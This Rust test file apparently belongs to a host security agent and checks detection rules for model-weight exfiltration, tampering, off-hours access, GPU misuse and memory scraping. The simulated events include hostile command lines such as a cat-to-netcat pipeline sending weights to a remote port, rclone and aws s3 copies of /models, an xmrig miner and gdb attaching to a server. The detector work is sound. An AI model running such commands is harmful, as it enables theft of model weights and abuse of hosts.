//! One positive and one negative case per rule, on hand-built enriched events.
use std::{net::IpAddr, path::PathBuf, sync::Arc};

use chrono::{DateTime, TimeDelta, Utc};

use super::*;
use crate::{
    enrich::FileView,
    events::{Event, EventKind, FileKey, ReadReason, TamperOp, Task},
    state::{files::WeightFormat, process::Ancestor},
};

const MIB: u64 = 1 << 20;
/// A Monday, 10:00 UTC: inside the default test business hours.
const MONDAY_10: &str = "2026-11-23T10:00:00Z";
/// A Sunday, 03:00 UTC.
const SUNDAY_03: &str = "2026-11-22T03:00:00Z";

fn cfg(yaml: &str) -> Arc<Config> {
    let base =
        "business_hours: {timezone: UTC, days: [mon, tue, wed, thu, fri], start: '08:00', end: '20:00'}\n";
    Arc::new(crate::config::parse(&format!("{base}{yaml}")).unwrap_or_else(|e| panic!("{e}")))
}

struct Proc {
    pid: u32,
    comm: &'static str,
    exe: &'static str,
    argv: Vec<String>,
    ancestry: Vec<Ancestor>,
    uid: u32,
}

fn proc_(pid: u32, comm: &'static str, exe: &'static str, argv: &str, parents: &[(u32, &str)]) -> Proc {
    Proc {
        pid,
        comm,
        exe,
        argv: argv.split(' ').map(str::to_string).collect(),
        ancestry: parents
            .iter()
            .map(|(p, c)| Ancestor {
                pid: *p,
                comm: c.to_string(),
                exe: None,
            })
            .collect(),
        uid: 1000,
    }
}

fn weight(ino: u64, size: u64) -> FileView {
    FileView {
        path: PathBuf::from(format!("/models/m{ino}.safetensors")).into(),
        dev: 8,
        ino,
        size,
        format: WeightFormat::Safetensors,
        class: crate::state::files::AssetClass::Weights,
    }
}

struct Run {
    engine: Engine,
    t0: DateTime<Utc>,
    alerts: Vec<Alert>,
}

impl Run {
    fn new(cfg: Arc<Config>, start: &str) -> Run {
        Run {
            engine: Engine::new(cfg),
            t0: start.parse().unwrap(),
            alerts: vec![],
        }
    }

    fn feed(&mut self, secs: i64, p: &Proc, kind: EventKind, w: Option<&FileView>) {
        let ev = Enriched {
            time: self.t0 + TimeDelta::seconds(secs),
            event: Event {
                ts_ns: 0,
                task: Task {
                    pid: p.pid,
                    tid: p.pid,
                    uid: p.uid,
                    gid: p.uid,
                    comm: p.comm.into(),
                    cgroup_id: 0,
                },
                kind,
            },
            process: std::sync::Arc::new(ProcessView {
                pid: p.pid,
                ppid: p.ancestry.first().map(|a| a.pid).unwrap_or(1),
                comm: p.comm.into(),
                exe: Some(p.exe.into()),
                argv: p.argv.clone(),
                uid: p.uid,
                user: None,
                container_id: None,
                pod_uid: None,
                runtime: None,
                cgroup: None,
                ancestry: p.ancestry.clone(),
            }),
            weight: w.cloned(),
        };
        self.engine.on_event(&ev, &mut self.alerts);
    }

    fn exec(&mut self, secs: i64, p: &Proc) {
        let kind = EventKind::ProcExec {
            ppid: p.ancestry.first().map(|a| a.pid).unwrap_or(1),
            filename: p.exe.into(),
            argv: p.argv.clone(),
        };
        self.feed(secs, p, kind, None);
    }

    fn read(&mut self, secs: i64, p: &Proc, w: &FileView, bytes: u64) {
        let kind = EventKind::FileRead {
            file: FileKey {
                dev: w.dev,
                ino: w.ino,
            },
            fd: 3,
            bytes,
            total: bytes,
            reason: ReadReason::Progress,
            syscall: "read".into(),
            instance: 0,
        };
        self.feed(secs, p, kind, Some(w));
    }

    fn send(&mut self, secs: i64, p: &Proc, dest: &str, port: u16, bytes: u64) {
        let kind = EventKind::NetSend {
            dest: dest.parse().unwrap(),
            port,
            proto: "tcp".into(),
            bytes,
            total: bytes,
            reason: ReadReason::Progress,
        };
        self.feed(secs, p, kind, None);
    }

    fn rules(&self) -> Vec<&str> {
        self.alerts.iter().map(|a| a.rule.as_str()).collect()
    }

    fn of(&self, rule: &str) -> Vec<&Alert> {
        self.alerts.iter().filter(|a| a.rule == rule).collect()
    }
}

fn vllm() -> Proc {
    proc_(
        500,
        "python3",
        "/usr/bin/python3",
        "python3 -m vllm.entrypoints.openai.api_server --model /models",
        &[(400, "bash")],
    )
}

#[test]
fn allowed_server_loading_its_model_raises_nothing() {
    let mut r = Run::new(cfg(""), SUNDAY_03); // even off hours: start-up load is expected
    let w = weight(1, 64 * MIB);
    let s = vllm();
    r.exec(0, &s);
    for i in 0..64 {
        r.read(1 + i / 8, &s, &w, MIB);
    }
    assert!(r.alerts.is_empty(), "{:#?}", r.alerts);
}

#[test]
fn unexpected_reader_opens_medium_then_high() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let w = weight(1, 10 * MIB);
    let cat = proc_(
        101,
        "cat",
        "/usr/bin/cat",
        "cat /models/m1.safetensors",
        &[(100, "bash")],
    );
    r.feed(
        0,
        &cat,
        EventKind::FileOpen {
            file: FileKey { dev: 8, ino: 1 },
            fd: 3,
            flags: 0,
            size: w.size,
            syscall: "openat".into(),
            origin: "opened".into(),
        },
        Some(&w),
    );
    r.read(1, &cat, &w, 2 * MIB);
    let first = r.of("weight.unexpected_reader");
    assert_eq!(first.len(), 1, "repeats are deduplicated: {:#?}", r.alerts);
    assert_eq!(first[0].severity, Severity::Medium);
    r.read(2, &cat, &w, 4 * MIB);
    let all = r.of("weight.unexpected_reader");
    assert_eq!(all.len(), 2);
    assert_eq!(all[1].severity, Severity::High, "60% read escalates");
    assert_eq!(all[1].files[0].bytes_read, 6 * MIB);
}

#[test]
fn bulk_read_by_one_tree_but_not_a_small_read() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let w = weight(1, 10 * MIB);
    let cp = proc_(
        101,
        "cp",
        "/usr/bin/cp",
        "cp /models/m1.safetensors /tmp/x",
        &[(100, "bash")],
    );
    r.read(0, &cp, &w, MIB);
    assert!(r.of("weight.bulk_read").is_empty(), "10% is not bulk");
    r.read(1, &cp, &w, 5 * MIB);
    let bulk = r.of("weight.bulk_read");
    assert_eq!(bulk.len(), 1, "{:#?}", r.alerts);
    assert_eq!(bulk[0].files[0].bytes_read, 6 * MIB);
    assert_eq!(bulk[0].process.pid, 101);
    assert!(
        r.of("weight.off_hours_access").is_empty(),
        "Monday 10:00 is business time"
    );
}

fn exfil_scenario(r: &mut Run, dest: &str, sent: u64) {
    let w = weight(7, 8 * MIB);
    // bash -c 'cat model | nc host port': siblings under one shell.
    let cat = proc_(
        201,
        "cat",
        "/usr/bin/cat",
        "cat /models/m7.safetensors",
        &[(200, "bash"), (150, "sshd")],
    );
    let nc = proc_(
        202,
        "nc",
        "/usr/bin/nc",
        "nc 203.0.113.9 4444",
        &[(200, "bash"), (150, "sshd")],
    );
    r.exec(0, &cat);
    r.exec(0, &nc);
    r.read(1, &cat, &w, 8 * MIB);
    r.send(2, &nc, dest, 4444, sent);
}

#[test]
fn exfiltration_across_a_pipeline_is_critical_and_complete() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    exfil_scenario(&mut r, "203.0.113.9", 8 * MIB);
    let ex = r.of("weight.exfiltration");
    assert_eq!(ex.len(), 1, "{:#?}", r.alerts);
    let a = ex[0];
    assert_eq!(a.severity, Severity::Critical);
    assert_eq!(a.files[0].path, "/models/m7.safetensors");
    assert_eq!(a.files[0].bytes_read, 8 * MIB);
    assert_eq!(a.network[0].dest, "203.0.113.9".parse::<IpAddr>().unwrap());
    assert_eq!(a.network[0].bytes_sent, 8 * MIB);
    assert!(a.summary.contains("203.0.113.9:4444"), "{}", a.summary);
    assert!(!a.incomplete);
    let json = serde_json::to_value(a).unwrap();
    for k in [
        "id",
        "time",
        "rule",
        "severity",
        "summary",
        "host",
        "process",
        "files",
        "network",
        "window",
        "incomplete",
        "dedup_key",
    ] {
        assert!(json.get(k).is_some(), "alert lacks `{k}`: {json}");
    }
    assert_eq!(json["severity"], "critical");
}

#[test]
fn no_exfiltration_to_allowed_destinations_or_for_small_sends() {
    let mut r = Run::new(cfg("egress: {allow: ['203.0.113.0/24']}"), MONDAY_10);
    exfil_scenario(&mut r, "203.0.113.9", 8 * MIB);
    assert!(
        r.of("weight.exfiltration").is_empty(),
        "allowlisted: {:#?}",
        r.alerts
    );
    let mut r = Run::new(cfg(""), MONDAY_10);
    exfil_scenario(&mut r, "203.0.113.9", 64 * 1024); // < 10% of what was read
    assert!(r.of("weight.exfiltration").is_empty(), "{:#?}", r.alerts);
}

#[test]
fn off_hours_bulk_access_but_not_in_business_hours_or_maintenance() {
    let yaml = "rules: {weight.off_hours_access: {min_bytes: 1MiB}}";
    let mut r = Run::new(cfg(yaml), SUNDAY_03);
    let w = weight(3, 4 * MIB);
    let cp = proc_(301, "cp", "/usr/bin/cp", "cp", &[(300, "bash")]);
    r.read(0, &cp, &w, 4 * MIB);
    let off = r.of("weight.off_hours_access");
    assert_eq!(off.len(), 1, "{:#?}", r.alerts);
    assert!(off[0].summary.contains("Sun 03:00"), "{}", off[0].summary);

    let mut r = Run::new(cfg(yaml), MONDAY_10);
    r.read(0, &cp, &w, 4 * MIB);
    assert!(r.of("weight.off_hours_access").is_empty());

    let maint = format!(
        "{yaml}\nbusiness_hours: {{timezone: UTC, maintenance: [{{start: '2026-11-22T02:00:00Z', end: '2026-11-22T04:00:00Z', reason: rollout}}]}}"
    );
    let c = Arc::new(crate::config::parse(&maint).unwrap());
    let mut r = Run::new(c, SUNDAY_03);
    r.read(0, &cp, &w, 4 * MIB);
    assert!(
        r.of("weight.off_hours_access").is_empty(),
        "maintenance window: {:#?}",
        r.alerts
    );
}

#[test]
fn tamper_on_change_ops_and_write_opens() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let w = weight(4, MIB);
    let p = proc_(
        401,
        "python3",
        "/usr/bin/python3",
        "python3 poison.py",
        &[(400, "bash")],
    );
    r.feed(
        0,
        &p,
        EventKind::FileTamper {
            file: None,
            op: TamperOp::RenameTo,
            fd: -1,
            dirfd: -100,
            path: Some("/models/m4.safetensors".into()),
            bytes: 0,
            syscall: "rename".into(),
        },
        Some(&w),
    );
    r.feed(
        1,
        &p,
        EventKind::FileOpen {
            file: FileKey { dev: 8, ino: 4 },
            fd: 3,
            flags: libc::O_WRONLY as u32,
            size: MIB,
            syscall: "openat".into(),
            origin: "opened".into(),
        },
        Some(&w),
    );
    let t = r.of("weight.tamper");
    assert_eq!(t.len(), 2, "{:#?}", r.alerts);
    assert!(t[0].summary.contains("replaced by a rename"), "{}", t[0].summary);
    // A read-only open is not a change.
    let mut r = Run::new(cfg(""), MONDAY_10);
    r.feed(
        0,
        &p,
        EventKind::FileOpen {
            file: FileKey { dev: 8, ino: 4 },
            fd: 3,
            flags: 0,
            size: MIB,
            syscall: "openat".into(),
            origin: "opened".into(),
        },
        Some(&w),
    );
    assert!(r.of("weight.tamper").is_empty());
}

#[test]
fn server_spawning_a_shell_but_not_its_workers() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let s = vllm();
    r.exec(0, &s);
    // A worker: fork, then exec of the same interpreter.
    r.feed(1, &s, EventKind::ProcFork { child_pid: 501 }, None);
    let worker = proc_(
        501,
        "python3",
        "/usr/bin/python3",
        "python3 -c from multiprocessing.spawn import spawn_main",
        &[(500, "python3")],
    );
    r.exec(2, &worker);
    assert!(r.of("inference.exec").is_empty(), "{:#?}", r.alerts);
    r.feed(3, &s, EventKind::ProcFork { child_pid: 502 }, None);
    let sh = proc_(502, "sh", "/bin/sh", "sh -c id", &[(500, "python3")]);
    r.exec(4, &sh);
    let e = r.of("inference.exec");
    assert_eq!(e.len(), 1, "{:#?}", r.alerts);
    assert!(e[0].summary.contains("a shell"));
}

#[test]
fn exfil_tools_by_program_and_subcommand() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    r.exec(
        0,
        &proc_(
            601,
            "rclone",
            "/usr/bin/rclone",
            "rclone copy /models remote:",
            &[(600, "bash")],
        ),
    );
    r.exec(
        0,
        &proc_(
            602,
            "aws",
            "/usr/bin/aws",
            "aws ec2 describe-instances",
            &[(600, "bash")],
        ),
    );
    r.exec(
        0,
        &proc_(
            603,
            "aws",
            "/usr/bin/aws",
            "aws s3 cp /models s3://x",
            &[(600, "bash")],
        ),
    );
    let t = r.of("exfil.tool");
    assert_eq!(t.len(), 2, "{:#?}", r.alerts);
    assert_eq!(t[0].process.pid, 601);
    assert_eq!(t[1].process.pid, 603);
    let mut r = Run::new(cfg(""), MONDAY_10);
    r.engine.set_weights_present(false);
    r.exec(
        0,
        &proc_(601, "rclone", "/usr/bin/rclone", "rclone copy", &[(600, "bash")]),
    );
    assert!(r.of("exfil.tool").is_empty(), "no weights on this host");
}

#[test]
fn server_egress_after_start_up_only_outside_allowlist() {
    let mut r = Run::new(cfg("egress: {allow: ['10.0.0.0/8']}"), MONDAY_10);
    let s = vllm();
    r.exec(0, &s);
    let connect = |d: &str| EventKind::NetConnect {
        dest: d.parse().unwrap(),
        port: 443,
        proto: "tcp".into(),
        fd: 9,
        in_progress: false,
    };
    r.feed(5, &s, connect("198.51.100.7"), None); // during start-up (downloads)
    r.feed(3600, &s, connect("10.1.2.3"), None); // allowed
    assert!(r.of("inference.egress").is_empty(), "{:#?}", r.alerts);
    r.feed(3601, &s, connect("198.51.100.7"), None);
    assert_eq!(r.of("inference.egress").len(), 1);
}

fn gpu(major: u32, minor: u32) -> EventKind {
    EventKind::GpuOpen {
        major,
        minor,
        device: format!("nvidia{minor}"),
        path: None,
        fd: 3,
        flags: 2,
        errno: None,
    }
}

#[test]
fn gpu_users_outside_the_allowlist() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    r.feed(
        0,
        &proc_(701, "xmrig", "/tmp/.x/xmrig", "xmrig -o pool", &[(700, "bash")]),
        gpu(195, 0),
        None,
    );
    r.feed(0, &vllm(), gpu(195, 0), None);
    let u = r.of("gpu.unexpected_user");
    assert_eq!(u.len(), 1, "{:#?}", r.alerts);
    assert_eq!(u[0].process.comm, "xmrig");
}

#[test]
fn gpu_spawn_storm_by_rate() {
    let mut r = Run::new(
        cfg("rules: {gpu.spawn_storm: {max_spawns: 5, per: 1m}, gpu.unexpected_user: {enabled: false}}"),
        MONDAY_10,
    );
    for i in 0..5 {
        r.feed(
            i,
            &proc_(
                800 + i as u32,
                "python3",
                "/usr/bin/python3",
                "python3 job.py",
                &[(799, "bash")],
            ),
            gpu(195, 0),
            None,
        );
    }
    assert!(r.of("gpu.spawn_storm").is_empty());
    r.feed(
        6,
        &proc_(
            810,
            "python3",
            "/usr/bin/python3",
            "python3 job.py",
            &[(799, "bash")],
        ),
        gpu(195, 0),
        None,
    );
    assert_eq!(r.of("gpu.spawn_storm").len(), 1, "{:?}", r.rules());
}

#[test]
fn api_client_flood_by_connections() {
    let mut r = Run::new(
        cfg("rules: {api.client_flood: {max_connections: 10, per: 1m}}"),
        MONDAY_10,
    );
    let s = vllm();
    r.exec(0, &s);
    let accept = EventKind::NetAccept {
        client: "198.51.100.20".parse().unwrap(),
        client_port: 5000,
        local_port: 8000,
        fd: 7,
    };
    for i in 0..10 {
        r.feed(i, &s, accept.clone(), None);
    }
    assert!(r.of("api.client_flood").is_empty());
    r.feed(11, &s, accept, None);
    let f = r.of("api.client_flood");
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].network[0].dest, "198.51.100.20".parse::<IpAddr>().unwrap());
}

#[test]
fn memory_scrape_of_a_server_only() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let s = vllm();
    r.exec(0, &s);
    let gdb = proc_(900, "gdb", "/usr/bin/gdb", "gdb -p 500", &[(899, "bash")]);
    r.feed(
        1,
        &gdb,
        EventKind::ProcAccess {
            target_pid: 500,
            op: "ptrace_attach".into(),
            bytes: 0,
        },
        None,
    );
    r.feed(
        1,
        &gdb,
        EventKind::ProcAccess {
            target_pid: 123,
            op: "ptrace_attach".into(),
            bytes: 0,
        },
        None,
    );
    let m = r.of("host.memory_scrape");
    assert_eq!(m.len(), 1, "{:#?}", r.alerts);
    assert_eq!(m[0].severity, Severity::Critical);
}

#[test]
fn agent_tamper_for_handles_to_its_own_objects_only() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let tool = proc_(
        700,
        "bpftool",
        "/usr/sbin/bpftool",
        "bpftool map show",
        &[(1, "bash")],
    );
    let access = |ours: Option<&str>| EventKind::BpfAccess {
        object: "map".into(),
        id: 42,
        fd: 3,
        ours: ours.map(str::to_string),
    };
    // Another agent's (or any unrelated) map: nothing.
    r.feed(1, &tool, access(None), None);
    assert!(r.of("agent.tamper").is_empty(), "{:#?}", r.alerts);
    r.feed(2, &tool, access(Some("WATCHED_FILES")), None);
    let t = r.of("agent.tamper");
    assert_eq!(t.len(), 1, "{:#?}", r.alerts);
    assert_eq!(t[0].severity, Severity::Critical);
    assert!(
        t[0].summary.contains("WATCHED_FILES") && t[0].summary.contains("id 42"),
        "{}",
        t[0].summary
    );
    // The agent's own check of its maps.
    let at = r.t0 + TimeDelta::seconds(3);
    r.engine.on_agent_tamper(
        "map changed".into(),
        "map:WATCHED_FILES".into(),
        at,
        &mut r.alerts,
    );
    assert_eq!(r.of("agent.tamper").len(), 2);
}

#[test]
fn event_loss_alerts_and_marks_overlapping_alerts_incomplete() {
    let mut r = Run::new(cfg(""), MONDAY_10);
    let t = r.t0 + TimeDelta::seconds(1);
    r.engine.on_event_loss(42, t, &mut r.alerts);
    assert_eq!(r.of("agent.event_loss").len(), 1);
    exfil_scenario(&mut r, "203.0.113.9", 8 * MIB);
    let ex = r.of("weight.exfiltration");
    assert_eq!(ex.len(), 1);
    assert!(ex[0].incomplete, "the loss overlapped the exfiltration window");
}

#[test]
fn disabled_rules_are_silent_and_severity_overrides_apply() {
    let mut r = Run::new(
        cfg("rules: {weight.unexpected_reader: {enabled: false}, weight.bulk_read: {severity: critical}}"),
        MONDAY_10,
    );
    let w = weight(1, MIB);
    r.read(
        0,
        &proc_(101, "cp", "/usr/bin/cp", "cp", &[(100, "bash")]),
        &w,
        MIB,
    );
    assert!(r.of("weight.unexpected_reader").is_empty());
    assert_eq!(r.of("weight.bulk_read")[0].severity, Severity::Critical);
}
